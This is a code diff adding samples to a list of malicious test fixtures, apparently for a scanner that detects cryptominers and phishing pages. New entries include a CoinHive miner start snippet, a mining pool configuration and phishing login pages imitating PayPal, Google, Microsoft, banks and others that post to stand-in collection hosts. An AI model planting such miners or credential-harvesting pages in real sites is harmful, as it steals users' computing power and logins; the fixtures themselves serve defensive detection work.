@@ -174,15 +174,35 @@ BAD = [
     Sample("miner-hosted", "index.htm", b"<script src='//coinhive.com/lib/coinhive.min.js'></script>"),
     Sample("miner-started", "index.html", INLINE_MINER),
     Sample("miner-started", "m.js", STARTED_JS),
+    Sample("miner-started", "k.js", b'var miner = new CoinHive.Anonymous("key"); miner.start();'),
     Sample("miner-library", "lib/worker.js", MINER_JS),
     Sample("miner-library", "c.min.js", COINHIVE_JS),
     Sample("miner-wasm", "cn.wasm", wasm("_cryptonight_create", "_cryptonight_hash", "_malloc")),
     Sample("miner-stratum", "mine.sh", STRATUM_SH),
     Sample("miner-stratum", "pool.js", STRATUM_JS),
+    Sample(
+        "miner-config",
+        "config.json",
+        b'{"donate-level": 1, "cpu": true, "pools": [{"url": "pool.example.com:3333", "user": "4A", "pass": "x"}]}',
+    ),
     Sample("phishing-login", "index.html", login_page("Log in to your PayPal account", "https://collect.example/in")),
     Sample("phishing-login", "fb/index.html", login_page("Facebook – log in or sign up", "login.php")),
     Sample("phishing-login", "index.php", b"<?php include 'a.php' ?>" + login_page("Netflix - Sign In", "./send.php")),
     Sample("phishing-login", "a.html", login_page("Sign in to PayPal", "https://paypal.com.example.net/x")),
+    *(
+        Sample("phishing-login", "index.html", login_page(title, "https://collect.example/in"))
+        for title in (
+            *("PayPal Login", "Login - PayPal", "Secure Login | PayPal", "Verify your PayPal account", "Instagram"),
+            *("PayPal Security Check", "Your account has been limited - PayPal", "Sign in – Google Accounts"),
+            *("Log into Facebook", "Bank of America | Online Banking | Log In", "Microsoft Office 365 - Sign In"),
+            *(
+                "Steam Community :: Login",
+                "LinkedIn Login, Sign in | LinkedIn",
+                "Update your billing details | Netflix",
+            ),
+        )
+    ),
+    Sample("phishing-login", "index.html", login_page("Log in to your PayPal account", "collect.php")),
     Sample(
         "phishing-microsoft",
         "office.html",
